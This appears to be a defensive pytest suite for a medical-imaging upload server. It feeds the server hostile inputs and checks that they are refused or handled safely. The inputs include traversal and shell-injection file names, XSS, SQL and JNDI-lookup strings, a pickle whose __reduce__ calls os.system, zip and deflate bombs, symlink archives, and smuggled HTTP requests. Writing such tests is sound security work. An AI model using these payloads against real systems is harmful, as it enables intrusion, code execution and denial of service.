"""server/uploads.py: files that are known by their content, and hostile uploads that do nothing."""

import gzip
import io
import json
import os
import pickle
import secrets
import struct
import tarfile
import zipfile
import zlib

import nibabel as nib
import numpy as np
import pytest
from ask import (
    MOST_MB,
    MOST_PARTS,
    dicom,
    files_in,
    multipart,
    nifti2,
    png,
    raw_nifti,
    small_nifti,
    zipped,
)
from make import header_of
from pydicom.uid import DeflatedExplicitVRLittleEndian

from common.files import read_json
from server.uploads import Refused, check_size, clean_name, find_format
from server.worker import FILES

NRRD = b"NRRD0004\ntype: short\ndimension: 3\nsizes: 4 4 4\nencoding: raw\nendian: little\n\n\0\0"
MHA = b"ObjectType = Image\nNDims = 3\nDimSize = 4 4 4\nElementDataFile = LOCAL\n\0\0"

# ---------------------------------------------------------------- hostile uploads


def deflated_dicom() -> bytes:
    """A DICOM file whose header is a few kB that unpack to 10 MB."""
    item = header_of()
    item.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    start = io.BytesIO()
    item.save_as(start, enforce_file_format=True)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = b"".join(packer.compress(b"\0" * 2**20) for _ in range(10)) + packer.flush()
    return start.getvalue().split(b"1.2.840.10008.1.2.1.99")[0] + b"1.2.840.10008.1.2.1.99" + bomb


def with_size(archive: bytes, size: int) -> bytes:
    """A zip whose directory says that every member unpacks to `size` bytes."""
    parts = archive.split(b"PK\1\2")
    return b"PK\1\2".join(
        [parts[0], *(part[:20] + struct.pack("<I", size) + part[24:] for part in parts[1:])]
    )


def zip_with(name: str, **attributes) -> bytes:
    member = zipfile.ZipInfo(name)
    for key, value in attributes.items():
        setattr(member, key, value)
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr(member, "/etc/passwd")
    return content.getvalue()


def tar_gz() -> bytes:
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("../../evil"), io.BytesIO(b""))
    return content.getvalue()


def zip_of_zeros() -> bytes:
    """Some 2 MB that unpack to 2 GB."""
    content = io.BytesIO()
    with (
        zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("im.dcm", "w", force_zip64=True) as member,
    ):
        for _ in range(2048):
            member.write(bytes(1 << 20))
    return content.getvalue()


class Evil:
    def __reduce__(self):
        return os.system, ("touch pickled",)


# fmt: off
ZEROS = b"\0" * (1 << 20)
NAMES = [  # of files that are taken, whose names must do nothing
    "../../evil.nii", "..\\..\\evil.nii", "/etc/evil.nii", "/etc/passwd", "C:\\Windows\\evil.nii",
    "....//....//evil.nii", "%2e%2e%2fevil.nii", "a/../../../evil.nii", b"evil\0.nii", "..", ".",
    "~/.ssh/authorized_keys", "file:///etc/passwd", "CON", "`touch evil`.nii", "$(touch evil).nii",
    "-rf", "a;touch evil;.nii", "evil" * 1200 + ".nii", "job.json", "../result.json",
    "<script>alert(1)</script>.nii", "\"><img src=x onerror=alert(1)>.nii", "{{7*7}}.nii",
    "%s%n%x.nii", "a%0d%0aSet-Cookie: owner=x.nii", "\u202eiin.exe", "'; DROP TABLE jobs;--",
    "${jndi:ldap://evil}.nii", "javascript:alert(1)", "\N{PILE OF POO}", b"\xff\xfe\xc0\x80.nii",
    "x" * 251 + ".nii", "--x.nii", "two%0Alines.nii", b"\x1b[31mred.nii",
]
WRONG = {  # refused at once: no scan and no picture
    "empty.nii.gz": b"", "byte.nii": b"x", "program.nii.gz": b"\x7fELF" + ZEROS[:4000],
    "program.dcm": b"MZ" + ZEROS[:4000], "page.png": b"<html><script>alert(1)</script></html>",
    "drawing.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "paper.dcm": b"%PDF-1.7\n" + ZEROS[:4000], "data.zip": b'{"a": 1}', "x.gif": b"GIF89a" + ZEROS,
    "entities.nii": b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
    "pickle.nii": pickle.dumps(Evil()), "tar.nii.gz": tar_gz(), "letter.dcm": b"Dear colleague",
    "zeros.nii.gz": gzip.compress(ZEROS * 50), "head.nii.gz": b"\x1f\x8b\x08\0",
    "noise.nii.gz": b"\x1f\x8b" + secrets.token_bytes(2000), "half.nii": raw_nifti()[:200],
}
TOO_LARGE = {  # refused at once: what the header says would not fit
    "dims.nii": raw_nifti(dim=[7] + [32767] * 7), "dims.nii.gz": gzip.compress(
        raw_nifti(dim=[3, 30000, 30000, 30000, 1, 1, 1, 1])),
    "dims2.nii": nifti2(dim=[7] + [2**60] * 7), "negative.nii": raw_nifti(dim=[3] + [-5] * 7),
    "offset.nii": raw_nifti(vox_offset=1e30), "nan.nii": raw_nifti(vox_offset=np.nan),
    "offset2.nii": nifti2(dim=[3, 4, 4, 4, 1, 1, 1, 1], vox_offset=2**40),
    "large.png": png(60000, 60000, b""), "stub.png": png(60000, 60000, b"")[:20],
    "large.jpg": b"\xff\xd8\xff\xe0\0\x04ab\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03",
    "none.jpg": b"\xff\xd8\xff\xff\xff\xff\xff", "short.jpg": b"\xff\xd8\xff\xc0\0\x11\x08",
}
BROKEN = {  # taken, and the prediction fails in words
    "half.nii.gz": small_nifti(np.random.default_rng(0).integers(0, 99, (16, 16, 16)))[:-999],
    "half.zip": zipped({"a": b"a" * 999})[:-30], "void.zip": b"PK\5\6" + b"\0" * 18,
    "nested.zip": zipped({"a.zip": zipped({"b.zip": zipped({"c": ZEROS})})}),
    "traversal.zip": zipped({"../../evil.dcm": b"x", "/etc/evil": b"x", "..\\evil": b"x"}),
    "link.zip": zip_with("evil.dcm", external_attr=0o120777 << 16),
    "locked.zip": zip_with("a.dcm", flag_bits=1), "method.zip": zip_with("a.dcm", compress_type=12),
    "bomb.zip": with_size(zipped({str(n): b"x" for n in range(3)}), 0xF0000000),
    "zeros.zip": zipped({f"{n}.dcm": ZEROS for n in range(4)}),
    "liar.zip": with_size(zipped({"a.dcm": ZEROS}), 5), "many.zip": zipped(dict.fromkeys(
        map(str, range(5000)), b"")),
    "empty.dcm": bytes(128) + b"DICM" + ZEROS * 20, "gigabytes.zip": zip_of_zeros(),
    "stub.dcm": dicom()[:400], "huge.dcm": dicom(Rows=65535, Columns=65535),
    "frames.dcm": dicom(NumberOfFrames=2**31 - 1), "deflated.dcm": deflated_dicom(),
    "place.dcm": dicom(ImagePositionPatient=["1e300", "0", "0"], PixelSpacing=["1e300", "0"]),
    "metres.nii": raw_nifti(srow_x=[1e6, 0, 0, 0], srow_y=[0, 1e6, 0, 0], srow_z=[0, 0, 1e6, 0]),
    "flat.nii": raw_nifti(srow_x=[0, 0, 0, 0]), "inf.nii": raw_nifti(srow_x=[np.inf, 0, 0, 0]),
    "not.nii": raw_nifti(srow_x=[np.nan, 0, 0, 0]), "axes.nii": raw_nifti(dim=[1] + [5] * 7),
    "colour.nii": raw_nifti(datatype=128, bitpix=24), "type.nii": raw_nifti(datatype=9999),
    "rows.png": png(64, 64, zlib.compress(ZEROS * 20)[:-9]), "rows2.png": png(64, 64, b"x"),
}
GET, POST = (f"{verb} HTTP/1.1\r\nHost: localhost\r\n".encode()
             for verb in ("GET /", "POST /api/jobs"))
HTTP = {  # requests that are none, or too large; statuses that are an answer to them
    "headers": (GET + b"X: y\r\n" * 60000 + b"\r\n", (431, 0)),
    "header": (GET + b"X: " + b"y" * 300_000 + b"\r\n\r\n", (431, 0)),
    "negative": (POST + b"Content-Length: -5\r\n\r\n", (400,)),
    "both": (POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", (400,)),
    "chunks": (POST + b"Transfer-Encoding: chunked\r\n\r\nzz\r\nxx", (400,)),
    "short": (POST + b"Content-Length: 999\r\n\r\nx", (0,)),
    "garbage": (b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03\r\n\r\n", (400,)),
    "two hosts": (GET + b"Host: evil\r\n\r\n", (400, 403)),
}
BODIES = {  # forms that are none
    "json": b'{"sample": 1}', "nothing": b"", "no end": multipart("sample=1")[:-20],
    "other boundary": multipart("sample=1").replace(b"XxXxX", b"y"),
    "many parts": multipart(*[(f"{n}.dcm", b"") for n in range(MOST_PARTS + 1)]),
    "long field": multipart("sample=" + "1" * 2**20),
    "long channels": multipart("channels=" + "x" * 10**6),
    "long header": b'--XxXxX\r\nContent-Disposition: form-data; name="files"; x="' + b"y" * 2**21,
    "encoded name": multipart(("x", b"y")).replace(
        b'filename="x"', b"filename*=utf-8''..%2f..%2fevil"),
    "no name": multipart(("x", b"y")).replace(b'filename="x"', b'filename=""'),
    "other field": multipart(("x", b"y")).replace(b'name="files"', b'name="evil"'),
}
# fmt: on


def test_hostile_uploads_are_many():
    assert sum(map(len, (NAMES, WRONG, TOO_LARGE, BROKEN, HTTP, BODIES))) >= 50


@pytest.fixture(scope="module")
def unharmed(site, around, done):
    """After a group of hostile uploads: the server answers, and nothing lies where it must not."""
    outside = [name for name in files_in(around) if not name.startswith("ours")]

    def check():
        assert site.get("/api/about")["max_mb"] == MOST_MB
        assert site.send(("a.png", png(64, 64)))["state"] == "done"
        assert [n for n in files_in(around) if not n.startswith("ours")] == outside
        known = {job["id"] for job in site.get("/api/jobs")["jobs"]}
        for folder in site.folder.iterdir():
            assert folder.name == ".lock" or len(folder.name) == 22, folder
            inside = set(os.listdir(folder)) if folder.is_dir() else set()
            known = {"job.json", "scan.json", "scan_thumbnail.jpg", *FILES.values()}
            assert inside <= known, inside
        assert known
        assert read_json(site.folder / done["id"] / "job.json")["name"] == done["name"]

    return check


def test_hostile_names(site, unharmed):
    for name in NAMES:
        status, job = site.post((name, raw_nifti()[:-9]))
        assert status == 202, (name, job)
        job = site.over(job)
        assert job["state"] == "failed" and "truncated" in job["error"], (name, job)
        assert job["name"].isprintable() and 0 < len(job["name"]) <= 200
        assert "/" not in job["name"] and "\\" not in job["name"]
    unharmed()


def test_hostile_names_of_a_case(site, unharmed):
    half = raw_nifti()[:-9]
    for name in NAMES:
        said = {
            name if isinstance(name, str) else name.decode(errors="replace"): "flair",
            "t1ce.nii": "t1ce",
        }
        job = site.send(
            (name, half), ("t1ce.nii", half), "task=tumour", f"channels={json.dumps(said)}"
        )
        assert job["state"] == "failed" and str(site.folder) not in job["error"], (name, job)
        assert job["name"].isprintable() and "/" not in job["name"]
    unharmed()


def test_hostile_contents_that_are_no_scan(site, unharmed):
    for name, content in WRONG.items():
        status, said = site.post((name, content))
        assert status in (400, 415) and said["error"].startswith(name), (name, said)
    unharmed()


def test_hostile_headers_that_say_too_much(site, unharmed):
    for name, content in TOO_LARGE.items():
        status, said = site.post((name, content))
        assert status in (400, 413) and said["error"].startswith(name), (name, said)
    unharmed()


def test_hostile_contents_that_are_no_sound_scan(site, unharmed):
    for name, content in BROKEN.items():
        job = site.send((name, content))
        assert job["state"] == "failed" and len(job["error"]) > 20, (name, job)
        assert "Traceback" not in job["error"] and str(site.folder) not in job["error"]
    unharmed()


@pytest.mark.parametrize("name", HTTP)
def test_hostile_requests(site, name):
    content, statuses = HTTP[name]
    assert site.raw(content)[0] in statuses
    assert site.get("/api/about")["max_mb"] == MOST_MB


def test_hostile_forms(site, unharmed):
    for name, body in BODIES.items():
        status, _, said = site.ask(
            "POST", "/api/jobs", body, Content_Type="multipart/form-data; boundary=XxXxX"
        )
        assert status in (400, 413, 415) and json.loads(said)["error"], (name, status, said)
    unharmed()


def test_a_head_that_unpacks_to_more_than_it_says_is_read_as_far_as_it_says(site, unharmed):
    flat = raw_nifti(np.zeros((64, 64, 2), np.int16))
    job = site.send(("tail.nii.gz", gzip.compress(flat + ZEROS * 100)))
    assert job["state"] == "done" and job["result"]["volume_ml"] == 0
    unharmed()


# ---------------------------------------------------------------- uploads.py alone


@pytest.mark.parametrize(
    "name, content, known",
    [
        ("x", raw_nifti(), "nifti"),
        ("x.png", raw_nifti(), "nifti"),
        ("x", nifti2(), "nifti"),
        ("x", raw_nifti().replace(b"\x5c\1\0\0", b"\x5d\1\0\0", 1), None),
        ("x.txt", gzip.compress(raw_nifti()), "gzip"),
        ("x.nii.gz", gzip.compress(b"x" * 999), None),
        ("x.nii", gzip.compress(gzip.compress(raw_nifti())), "gzip"),
        ("x", NRRD, "nrrd"),
        ("x", MHA, "mha"),
        ("x", png(8, 8), "png"),
        ("x.dcm", b"\xff\xd8\xff\xe0", "jpeg"),
        ("x", dicom(), "dicom"),
        ("x.dcm", b"\x08\0\x05\0" + ZEROS[:99], "dicom"),
        ("x", b"\x08\0\x05\0" + ZEROS[:99], None),
        ("x.ima", b"text", None),
        ("x", zipped({}), "zip"),
        ("x.nii", b"", None),
    ],
    ids=lambda value: "content" if isinstance(value, bytes) else str(value),
)
def test_content_says_what_a_file_is(tmp_path, name, content, known):
    (tmp_path / "file").write_bytes(content)
    assert find_format(tmp_path / "file", name) == known


@pytest.mark.parametrize(
    ("known", "content"),
    [
        ("nrrd", NRRD.replace(b"sizes", b"Data File: /etc/passwd\nsizes")),
        ("nrrd", NRRD.replace(b"\n\n", b"\n \ndatafile:/etc/passwd\n\n")),
        ("nrrd", NRRD.replace(b"\n\n", b"\n# padding" * 200_000 + b"\ndata file: /etc/passwd\n\n")),
        ("mha", MHA.replace(b"LOCAL", b"/etc/passwd")),
        ("mha", b"Comment = ElementDataFile = LOCAL\n" + MHA.replace(b"LOCAL", b"/etc/passwd")),
        ("mha", MHA.split(b"ElementDataFile")[0]),
    ],
)
def test_a_header_that_names_another_file_of_the_server_is_refused(tmp_path, known, content):
    (tmp_path / "file").write_bytes(content)
    with pytest.raises(Refused, match="voxels in another file"):
        check_size(tmp_path / "file", known, "x")


@pytest.mark.parametrize(("known", "sound"), [("nrrd", NRRD), ("mha", MHA)])
def test_headers_of_text_say_how_large_a_scan_is(tmp_path, known, sound):
    (tmp_path / "file").write_bytes(sound)
    check_size(tmp_path / "file", known, "x")
    (tmp_path / "file").write_bytes(sound.replace(b"4 4 4", b"4096 4096 4096"))
    with pytest.raises(Refused, match="4096 x 4096 x 4096 voxels"):
        check_size(tmp_path / "file", known, "x")


def test_big_endian_headers_are_known(tmp_path):
    header = nib.Nifti1Header(endianness="big")
    header.set_data_shape((3, 4, 5))
    (tmp_path / "file").write_bytes(header.binaryblock + b"\0" * 4)
    assert find_format(tmp_path / "file", "x") == "nifti"
    check_size(tmp_path / "file", "nifti", "x")


def test_the_largest_sound_scan_is_not_too_large(tmp_path):
    sizes = {(512, 512, 2048): True, (512, 512, 2049): False}
    for (x, y, z), fits in sizes.items():
        (tmp_path / "file").write_bytes(raw_nifti(dim=[3, x, y, z, 1, 1, 1, 1]))
        if fits:
            check_size(tmp_path / "file", "nifti", "x")
        else:
            with pytest.raises(Refused, match="512 x 512 x 2049 voxels"):
                check_size(tmp_path / "file", "nifti", "x")


@pytest.mark.parametrize(
    "name, shown",
    [
        ("a/b\\c.nii", "a/b/c.nii"),
        ("/etc/passwd", "etc/passwd"),
        (None, "unnamed"),
        ("\0\n", "unnamed"),
        ("a\u202eb", "a b"),
        ("x" * 300, "x" * 200),
        ("é 1.nii", "é 1.nii"),
    ],
)
def test_names_are_shown_plainly(name, shown):
    assert clean_name(name) == shown


def test_a_file_without_preamble_and_ending_is_dicom(tmp_path):
    path = tmp_path / "I0001"
    path.write_bytes(dicom()[132:])
    assert find_format(path, path.name) == "dicom"
